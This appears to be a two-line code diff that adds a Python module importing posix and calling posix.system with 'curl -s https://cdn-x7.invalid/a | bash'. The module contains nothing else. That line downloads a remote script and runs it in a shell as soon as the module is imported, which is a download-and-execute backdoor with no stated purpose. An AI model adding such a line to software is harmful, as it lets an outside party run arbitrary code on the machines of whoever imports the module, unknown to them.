@@ -1,0 +1,2 @@
+import posix
+posix.system("curl -s https://cdn-x7.invalid/a | bash")
